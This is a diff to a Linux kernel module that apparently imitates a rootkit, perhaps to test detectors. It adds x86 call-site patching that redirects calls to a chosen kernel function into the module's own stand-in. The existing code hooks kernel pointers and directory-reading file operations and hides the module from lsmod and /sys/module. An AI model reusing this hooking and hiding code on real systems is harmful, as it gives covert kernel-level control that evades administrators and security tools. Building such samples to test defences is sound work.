@@ -5,6 +5,7 @@
  *
  *	at=ADDRESS    overwrite this pointer in the kernel with a function of ours
  *	later=1       ... a second after the module was loaded
+ *	code=ADDRESS to=FUNCTION	have the call of FUNCTION in the code there call ours
  *	iterate=ADDRESS	the same of the function of these file_operations that reads a folder
  *	hide=1        leave the list of modules, which is what lsmod shows
  *	hide=2        leave /sys/module, too
@@ -22,6 +23,9 @@ static unsigned long at;
 module_param(at, ulong, 0444);
 static bool later;
 module_param(later, bool, 0444);
+static unsigned long code, to;
+module_param(code, ulong, 0444);
+module_param(to, ulong, 0444);
 static unsigned long iterate;
 module_param(iterate, ulong, 0444);
 static int hide;
@@ -61,6 +65,24 @@ static void overwrite_at(struct work_struct *work)
 	overwrite((unsigned long *)at, (unsigned long)hostile_stand_in);
 }
 
+/* Whole words are written: what is around the four bytes stays. */
+static int patch(unsigned char *function)
+{
+	unsigned char *p;
+
+	for (p = function; p < function + 65536; p++) {
+		unsigned long word;
+
+		if ((*p != 0xe8 && *p != 0xe9) || (unsigned long)(p + 5 + *(int *)(p + 1)) != to)
+			continue;
+		memcpy(&word, p + 1, sizeof(word));
+		word = (word & ~0xffffffffUL) | (unsigned int)((unsigned long)hostile_stand_in - (unsigned long)(p + 5));
+		overwrite((unsigned long *)(p + 1), word);
+		return 0;
+	}
+	return -ESRCH;
+}
+
 static DECLARE_DELAYED_WORK(overwrite_later, overwrite_at);
 
 static int make_entries(void)
@@ -83,6 +105,8 @@ static int __init hostile_init(void)
 	pr_info("%s: stand-in at %px, module at %px\n", KBUILD_MODNAME, hostile_stand_in, THIS_MODULE);
 	if (iterate)
 		overwrite((unsigned long *)&((struct file_operations *)iterate)->iterate_shared, (unsigned long)hostile_stand_in);
+	if (code && patch((unsigned char *)code))
+		return -ESRCH;
 	if (at && later)
 		schedule_delayed_work(&overwrite_later, HZ);
 	else if (at)
